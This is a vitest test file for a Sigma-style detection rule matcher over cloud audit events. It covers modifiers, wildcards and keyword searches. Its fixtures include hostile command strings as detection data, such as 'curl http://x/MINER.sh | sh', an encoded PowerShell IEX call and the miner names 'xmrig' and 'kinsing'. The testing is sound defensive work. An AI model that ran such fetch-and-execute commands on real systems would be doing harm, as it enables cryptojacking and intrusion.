import { describe, expect, it } from 'vitest';
import { selectionRule } from './helpers.js';

interface Case {
  name: string;
  selection: Record<string, unknown>;
  event: Record<string, unknown>;
  want: boolean;
}

const b64 = (text: string, encoding: BufferEncoding = 'utf8') => Buffer.from(text, encoding).toString('base64');
const swapCase = (text: string) => [...text].map((c) => (c === c.toLowerCase() ? c.toUpperCase() : c.toLowerCase())).join('');

const cases: Case[] = [
  // plain equality, case and types
  { name: 'equality ignores case', selection: { eventName: 'consolelogin' }, event: { eventName: 'ConsoleLogin' }, want: true },
  { name: 'equality is whole-value', selection: { eventName: 'Console' }, event: { eventName: 'ConsoleLogin' }, want: false },
  { name: 'cased keeps case: differs', selection: { 'eventName|cased': 'consolelogin' }, event: { eventName: 'ConsoleLogin' }, want: false },
  { name: 'cased keeps case: same', selection: { 'eventName|cased': 'ConsoleLogin' }, event: { eventName: 'ConsoleLogin' }, want: true },
  { name: 'contains|cased', selection: { 'userAgent|contains|cased': 'Boto3' }, event: { userAgent: 'aws-sdk boto3/1.34' }, want: false },
  { name: 'a list of values is OR', selection: { eventName: ['StopLogging', 'DeleteTrail'] }, event: { eventName: 'DeleteTrail' }, want: true },
  { name: 'a list of values, none equal', selection: { eventName: ['StopLogging', 'DeleteTrail'] }, event: { eventName: 'CreateTrail' }, want: false },
  { name: 'empty string matches empty', selection: { errorMessage: '' }, event: { errorMessage: '' }, want: true },
  { name: 'empty string is not any string', selection: { errorMessage: '' }, event: { errorMessage: 'x' }, want: false },
  { name: 'number rule, number event', selection: { 'service.count': 5 }, event: { service: { count: 5 } }, want: true },
  { name: 'number rule, string event', selection: { 'service.count': 5 }, event: { service: { count: '5' } }, want: true },
  // pySigma compares a number with the number and with the string it prints as, nothing else.
  { name: 'number rule, "5.0" event', selection: { 'service.count': 5 }, event: { service: { count: '5.0' } }, want: false },
  { name: 'number rule, "05" event', selection: { 'service.count': 5 }, event: { service: { count: '05' } }, want: false },
  { name: 'number rule, "0x5" event', selection: { 'service.count': 5 }, event: { service: { count: '0x5' } }, want: false },
  { name: 'number rule, " 5" event', selection: { 'service.count': 5 }, event: { service: { count: ' 5' } }, want: false },
  { name: 'number rule, number 5.0 event', selection: { 'service.count': 5 }, event: { service: { count: 5.0 } }, want: true },
  { name: 'number rule, other number', selection: { 'service.count': 5 }, event: { service: { count: 6 } }, want: false },
  { name: 'string rule, number event', selection: { severity: '8' }, event: { severity: 8 }, want: true },
  { name: 'boolean rule, boolean event', selection: { readOnly: false }, event: { readOnly: false }, want: true },
  { name: 'boolean rule, string event', selection: { readOnly: false }, event: { readOnly: 'FALSE' }, want: true },
  { name: 'boolean rule, other boolean', selection: { readOnly: false }, event: { readOnly: true }, want: false },
  { name: 'string "true", boolean event', selection: { 'responseElements.publiclyAccessible': 'true' }, event: { responseElements: { publiclyAccessible: true } }, want: true },

  // contains / startswith / endswith / all
  { name: 'contains', selection: { 'userAgent|contains': 'boto3' }, event: { userAgent: 'Boto3/1.34.2 md/Botocore' }, want: true },
  { name: 'contains, absent', selection: { 'userAgent|contains': 'boto3' }, event: { userAgent: 'aws-cli/2.15' }, want: false },
  { name: 'contains on a missing field', selection: { 'userAgent|contains': '' }, event: {}, want: false },
  { name: 'startswith', selection: { 'eventName|startswith': 'updatefunctionconfiguration' }, event: { eventName: 'UpdateFunctionConfiguration20150331v2' }, want: true },
  { name: 'startswith, not at start', selection: { 'eventName|startswith': 'Function' }, event: { eventName: 'UpdateFunctionConfiguration' }, want: false },
  { name: 'endswith', selection: { 'userIdentity.arn|endswith': ':root' }, event: { userIdentity: { arn: 'arn:aws:iam::111122223333:root' } }, want: true },
  { name: 'endswith, not at end', selection: { 'userIdentity.arn|endswith': ':root' }, event: { userIdentity: { arn: 'arn:aws:iam::111122223333:root/x' } }, want: false },
  { name: 'contains|all, every needle present', selection: { 'userAgent|contains|all': ['python', 'boto3'] }, event: { userAgent: 'Boto3/1.34 Python/3.11' }, want: true },
  { name: 'contains|all, one missing', selection: { 'userAgent|contains|all': ['python', 'curl'] }, event: { userAgent: 'Boto3/1.34 Python/3.11' }, want: false },
  { name: 'contains with * is "present"', selection: { 'errorCode|contains': '*' }, event: { errorCode: 'AccessDenied' }, want: true },
  { name: 'contains with *, field absent', selection: { 'errorCode|contains': '*' }, event: {}, want: false },
  { name: 'contains looks into object leaves', selection: { 'requestParameters|contains': 'Suspended' }, event: { requestParameters: { VersioningConfiguration: { Status: 'Suspended' } } }, want: true },
  { name: 'equality does not look into objects', selection: { responseElements: 'Failure' }, event: { responseElements: { ConsoleLogin: 'Failure' } }, want: false },
  { name: 'startswith does not look into objects', selection: { 'responseElements|startswith': 'Fail' }, event: { responseElements: { ConsoleLogin: 'Failure' } }, want: false },
  { name: 're does not look into objects', selection: { 'responseElements|re': 'Fail' }, event: { responseElements: { ConsoleLogin: 'Failure' } }, want: false },
  { name: 'equality looks into arrays', selection: { 'requestParameters.tags': 'prod' }, event: { requestParameters: { tags: ['dev', ['prod']] } }, want: true },
  { name: 'contains on object, no leaf has it', selection: { 'requestParameters|contains': 'Suspended' }, event: { requestParameters: { VersioningConfiguration: { Status: 'Enabled' } } }, want: false },

  // regular expressions
  { name: 're finds anywhere', selection: { 'userIdentity.arn|re': ':assumed-role/aws:' }, event: { userIdentity: { arn: 'arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1' } }, want: true },
  { name: 're is case-sensitive', selection: { 'userIdentity.arn|re': 'ASSUMED-ROLE' }, event: { userIdentity: { arn: 'arn:aws:sts::1:assumed-role/x' } }, want: false },
  { name: 're|i ignores case', selection: { 'userIdentity.arn|re|i': 'ASSUMED-ROLE' }, event: { userIdentity: { arn: 'arn:aws:sts::1:assumed-role/x' } }, want: true },
  { name: 're with leading (?i)', selection: { 'userIdentity.arn|re': '(?i)ASSUMED-ROLE' }, event: { userIdentity: { arn: 'arn:aws:sts::1:assumed-role/x' } }, want: true },
  { name: 're without m: ^ is the start', selection: { 'policy|re': '^Deny$' }, event: { policy: 'Allow\nDeny' }, want: false },
  { name: 're|m: ^ is a line start', selection: { 'policy|re|m': '^Deny$' }, event: { policy: 'Allow\nDeny' }, want: true },
  { name: 're without s: . stops at newline', selection: { 'policy|re': 'Allow.Deny' }, event: { policy: 'Allow\nDeny' }, want: false },
  { name: 're|s: . crosses newline', selection: { 'policy|re|s': 'Allow.Deny' }, event: { policy: 'Allow\nDeny' }, want: true },
  { name: 're on a number', selection: { 'severity|re': '^8\\.' }, event: { severity: 8.5 }, want: true },

  // cidr
  { name: 'cidr v4 inside', selection: { 'sourceIPAddress|cidr': '10.0.0.0/8' }, event: { sourceIPAddress: '10.2.3.4' }, want: true },
  { name: 'cidr v4 outside', selection: { 'sourceIPAddress|cidr': '10.0.0.0/8' }, event: { sourceIPAddress: '11.0.0.1' }, want: false },
  { name: 'cidr v4 non-octet prefix', selection: { 'sourceIPAddress|cidr': '192.168.4.0/22' }, event: { sourceIPAddress: '192.168.7.255' }, want: true },
  { name: 'cidr v4 just past the prefix', selection: { 'sourceIPAddress|cidr': '192.168.4.0/22' }, event: { sourceIPAddress: '192.168.8.0' }, want: false },
  { name: 'cidr v4, value is a service name', selection: { 'sourceIPAddress|cidr': '10.0.0.0/8' }, event: { sourceIPAddress: 'AWS Internal' }, want: false },
  { name: 'cidr v6 inside', selection: { 'sourceIPAddress|cidr': '2001:db8::/32' }, event: { sourceIPAddress: '2001:db8:1::5' }, want: true },
  { name: 'cidr v6 outside', selection: { 'sourceIPAddress|cidr': '2001:db8::/32' }, event: { sourceIPAddress: '2001:db9::1' }, want: false },
  { name: 'cidr v6 against a v4 address', selection: { 'sourceIPAddress|cidr': '2001:db8::/32' }, event: { sourceIPAddress: '10.0.0.1' }, want: false },
  { name: 'cidr v4 against a mapped v6 address', selection: { 'sourceIPAddress|cidr': '198.51.100.0/24' }, event: { sourceIPAddress: '::ffff:198.51.100.7' }, want: true },
  { name: 'cidr v4, octet with a leading zero', selection: { 'sourceIPAddress|cidr': '10.0.0.0/8' }, event: { sourceIPAddress: '010.0.0.1' }, want: false },
  { name: 'cidr v4, zero octets', selection: { 'sourceIPAddress|cidr': '10.0.0.0/8' }, event: { sourceIPAddress: '10.0.0.0' }, want: true },
  { name: 'cidr mapped v6, octet with a leading zero', selection: { 'sourceIPAddress|cidr': '10.0.0.0/8' }, event: { sourceIPAddress: '::ffff:010.0.0.1' }, want: false },
  { name: 'cidr list is OR', selection: { 'sourceIPAddress|cidr': ['10.0.0.0/8', 'fd00::/8'] }, event: { sourceIPAddress: 'fd12::1' }, want: true },

  // exists
  { name: 'exists true, present', selection: { 'errorCode|exists': true }, event: { errorCode: 'AccessDenied' }, want: true },
  { name: 'exists true, missing', selection: { 'errorCode|exists': true }, event: {}, want: false },
  { name: 'exists true, null', selection: { 'errorCode|exists': true }, event: { errorCode: null }, want: false },
  { name: 'exists false, missing', selection: { 'errorCode|exists': false }, event: {}, want: true },
  { name: 'exists false, present', selection: { 'errorCode|exists': false }, event: { errorCode: '' }, want: false },

  // numeric comparisons
  { name: 'gt above', selection: { 'severity|gt': 7 }, event: { severity: 8 }, want: true },
  { name: 'gt equal', selection: { 'severity|gt': 8 }, event: { severity: 8 }, want: false },
  { name: 'gte equal', selection: { 'severity|gte': 8 }, event: { severity: 8 }, want: true },
  { name: 'lt below', selection: { 'severity|lt': 4 }, event: { severity: 2.5 }, want: true },
  { name: 'lt equal', selection: { 'severity|lt': 4 }, event: { severity: 4 }, want: false },
  { name: 'lte equal', selection: { 'severity|lte': 4 }, event: { severity: 4 }, want: true },
  { name: 'gt on a numeric string', selection: { 'service.count|gt': 10 }, event: { service: { count: '12' } }, want: true },
  { name: 'gt on text', selection: { 'service.count|gt': 10 }, event: { service: { count: 'many' } }, want: false },
  { name: 'gt on a hex string', selection: { 'service.count|gt': 10 }, event: { service: { count: '0x20' } }, want: false },
  { name: 'gt on a padded string', selection: { 'service.count|gt': 10 }, event: { service: { count: ' 12 ' } }, want: false },
  { name: 'gt on a decimal exponent', selection: { 'service.count|gt': 10 }, event: { service: { count: '1.2e2' } }, want: true },
  { name: 'gt on an empty string', selection: { 'service.count|lt': 10 }, event: { service: { count: '' } }, want: false },

  // encodings
  { name: 'base64 exact', selection: { 'userData|base64': 'curl evil.sh' }, event: { userData: b64('curl evil.sh') }, want: true },
  { name: 'base64 is case-sensitive', selection: { 'userData|base64': 'curl evil.sh' }, event: { userData: swapCase(b64('curl evil.sh')) }, want: false },
  { name: 'base64|contains is case-sensitive', selection: { 'userData|base64|contains': 'abc' }, event: { userData: `xx${b64('abc').toLowerCase()}yy` }, want: false },
  { name: 'base64offset|contains is case-sensitive', selection: { 'userData|base64offset|contains': 'whoami' }, event: { userData: b64('a whoami;').toUpperCase() }, want: false },
  { name: 'base64 of other text', selection: { 'userData|base64': 'curl evil.sh' }, event: { userData: b64('curl good.sh') }, want: false },
  { name: 'base64|contains', selection: { 'userData|base64|contains': 'abc' }, event: { userData: `xx${b64('abc')}yy` }, want: true },
  { name: 'base64offset|contains, offset 0', selection: { 'userData|base64offset|contains': 'whoami' }, event: { userData: b64('abc whoami;') }, want: true },
  { name: 'base64offset|contains, offset 1', selection: { 'userData|base64offset|contains': 'whoami' }, event: { userData: b64('a whoami;') }, want: true },
  { name: 'base64offset|contains, offset 2', selection: { 'userData|base64offset|contains': 'whoami' }, event: { userData: b64('ab whoami;') }, want: true },
  { name: 'base64offset|contains, absent', selection: { 'userData|base64offset|contains': 'whoami' }, event: { userData: b64('ab who am i;') }, want: false },
  { name: 'wide|base64offset|contains', selection: { 'cmd|wide|base64offset|contains': 'IEX' }, event: { cmd: b64('powershell IEX(x)', 'utf16le') }, want: true },
  { name: 'wide|base64offset|contains, utf8 text', selection: { 'cmd|wide|base64offset|contains': 'IEX' }, event: { cmd: b64('powershell IEX(x)') }, want: false },
  { name: 'utf16le alone', selection: { 'raw|utf16le': 'ab' }, event: { raw: 'a\u0000b\u0000' }, want: true },
  { name: 'utf16be|base64', selection: { 'raw|utf16be|base64': 'ab' }, event: { raw: b64('\u0000a\u0000b', 'latin1') }, want: true },
  { name: 'utf16|base64 carries a BOM', selection: { 'raw|utf16|base64': 'ab' }, event: { raw: b64('\u00ff\u00fea\u0000b\u0000', 'latin1') }, want: true },
  { name: 'windash: slash form', selection: { 'cmd|windash|contains': ' -exec' }, event: { cmd: 'tool.exe /exec x' }, want: true },
  { name: 'windash: en dash form', selection: { 'cmd|windash|contains': ' -exec' }, event: { cmd: 'tool.exe \u2013exec x' }, want: true },
  { name: 'windash: no dash', selection: { 'cmd|windash|contains': ' -exec' }, event: { cmd: 'tool.exe exec x' }, want: false },
  { name: 'windash leaves inner dashes alone', selection: { 'cmd|windash': 'a-b' }, event: { cmd: 'a/b' }, want: false },

  // fieldref
  { name: 'fieldref equal (any case)', selection: { 'userIdentity.userName|fieldref': 'requestParameters.userName' }, event: { userIdentity: { userName: 'Alice' }, requestParameters: { userName: 'alice' } }, want: true },
  { name: 'fieldref differ', selection: { 'userIdentity.userName|fieldref': 'requestParameters.userName' }, event: { userIdentity: { userName: 'alice' }, requestParameters: { userName: 'bob' } }, want: false },
  { name: 'fieldref other field missing', selection: { 'userIdentity.userName|fieldref': 'requestParameters.userName' }, event: { userIdentity: { userName: 'alice' } }, want: false },
  { name: 'fieldref|cased', selection: { 'userIdentity.userName|fieldref|cased': 'requestParameters.userName' }, event: { userIdentity: { userName: 'Alice' }, requestParameters: { userName: 'alice' } }, want: false },
  { name: 'fieldref|endswith', selection: { 'userIdentity.arn|fieldref|endswith': 'requestParameters.userName' }, event: { userIdentity: { arn: 'arn:aws:iam::1:user/alice' }, requestParameters: { userName: 'alice' } }, want: true },
  { name: 'fieldref value is a name, not a pattern', selection: { 'a|fieldref': 'b' }, event: { a: 'x', b: '*' }, want: false },

  // null, paths, arrays
  { name: 'null: field missing', selection: { errorCode: null }, event: {}, want: true },
  { name: 'null: field null', selection: { errorCode: null }, event: { errorCode: null }, want: true },
  { name: 'null: field set', selection: { errorCode: null }, event: { errorCode: 'AccessDenied' }, want: false },
  { name: 'null or a value', selection: { errorCode: [null, 'Success'] }, event: { errorCode: 'Success' }, want: true },
  { name: 'dotted path into objects', selection: { 'userIdentity.sessionContext.sessionIssuer.type': 'Role' }, event: { userIdentity: { sessionContext: { sessionIssuer: { type: 'Role' } } } }, want: true },
  { name: 'dotted path, key with a literal dot', selection: { 'detail.type': 'x' }, event: { 'detail.type': 'X' }, want: true },
  { name: 'dotted path, partial literal dot', selection: { 'a.b.c': 'x' }, event: { a: { 'b.c': 'x' } }, want: true },
  { name: 'dotted path through an array of objects', selection: { 'resources.type': 'AWS::IAM::User' }, event: { resources: [{ type: 'AWS::S3::Bucket' }, { type: 'AWS::IAM::User' }] }, want: true },
  { name: 'array field: any element', selection: { 'requestParameters.layers|contains': 'evil' }, event: { requestParameters: { layers: ['arn:good', 'arn:evil:1'] } }, want: true },
  { name: 'array field: no element', selection: { 'requestParameters.layers|contains': 'evil' }, event: { requestParameters: { layers: ['arn:good'] } }, want: false },
  { name: 'array field: empty', selection: { 'requestParameters.layers|contains': '*' }, event: { requestParameters: { layers: [] } }, want: false },
  { name: 'field on the prototype is not a field', selection: { 'constructor|contains': 'function' }, event: {}, want: false },
];

describe('value modifiers', () => {
  it.each(cases)('$name', ({ selection, event, want }) => {
    expect(selectionRule(selection).match(event)).toBe(want);
  });
});

const wildcardCases: Array<{ pattern: string; value: string; want: boolean }> = [
  { pattern: 'Create*', value: 'CreateUser', want: true },
  { pattern: 'Create*', value: 'create', want: true },
  { pattern: 'Create*', value: 'DeleteUser', want: false },
  { pattern: '*User', value: 'CreateUser', want: true },
  { pattern: '*Access*', value: 'CreateAccessKey', want: true },
  { pattern: 'Get?', value: 'GetX', want: true },
  { pattern: 'Get?', value: 'Get', want: false },
  { pattern: 'Get?', value: 'GetXY', want: false },
  { pattern: 'a*b?c', value: 'a-lots-b.c', want: true },
  { pattern: 'a*b?c', value: 'a-lots-bc', want: false },
  { pattern: 'a.b', value: 'aXb', want: false },
  { pattern: 'a\\*', value: 'a*', want: true },
  { pattern: 'a\\*', value: 'abc', want: false },
  { pattern: 'a\\?', value: 'a?', want: true },
  { pattern: 'a\\?', value: 'ab', want: false },
  { pattern: 'a\\\\*', value: 'a\\xyz', want: true },
  { pattern: 'a\\\\*', value: 'axyz', want: false },
  { pattern: 'C:\\Windows\\\\*', value: 'c:\\windows\\system32', want: true },
  { pattern: 'C:\\Windows\\*', value: 'C:\\Windows*', want: true },
  { pattern: 'C:\\Windows\\*', value: 'c:\\windows\\system32', want: false },
  { pattern: 'C:\\Windows', value: 'C:\\Windows', want: true },
  { pattern: '100%', value: '100%', want: true },
  { pattern: '(x)+[y]', value: '(X)+[Y]', want: true },
  { pattern: '*', value: '', want: true },
  { pattern: 'é*', value: 'ÉCOLE', want: true },
];

describe('wildcards and escapes', () => {
  it.each(wildcardCases)('$pattern against $value is $want', ({ pattern, value, want }) => {
    expect(selectionRule({ field: pattern }).match({ field: value })).toBe(want);
  });
});

describe('keywords', () => {
  const event = { eventName: 'RunInstances', requestParameters: { userData: 'curl http://x/MINER.sh | sh', tags: ['prod'] }, count: 42 };

  it('a keyword list matches a string anywhere in the event, ignoring case', () => {
    expect(selectionRule(['nothing-here', 'miner.sh']).match(event)).toBe(true);
  });

  it('a keyword list matches nothing when no string holds a keyword', () => {
    expect(selectionRule(['xmrig', 'kinsing']).match(event)).toBe(false);
  });

  it('a single keyword string works like a one-item list', () => {
    expect(selectionRule('prod').match(event)).toBe(true);
  });

  it('keywords search values, not keys', () => {
    expect(selectionRule(['userData']).match(event)).toBe(false);
  });

  it('keywords search numbers as they print', () => {
    expect(selectionRule([42]).match(event)).toBe(true);
    expect(selectionRule(['42']).match(event)).toBe(true);
    expect(selectionRule([43]).match(event)).toBe(false);
  });

  it('keywords take wildcards', () => {
    expect(selectionRule(['curl*sh']).match(event)).toBe(true);
    expect(selectionRule(['wget*sh']).match(event)).toBe(false);
  });

  it('a list of maps is OR of the maps', () => {
    const rule = selectionRule([{ eventName: 'StopLogging' }, { eventName: 'RunInstances', 'requestParameters.tags': 'dev' }]);
    expect(rule.match(event)).toBe(false);
    expect(rule.match({ eventName: 'StopLogging' })).toBe(true);
  });
});
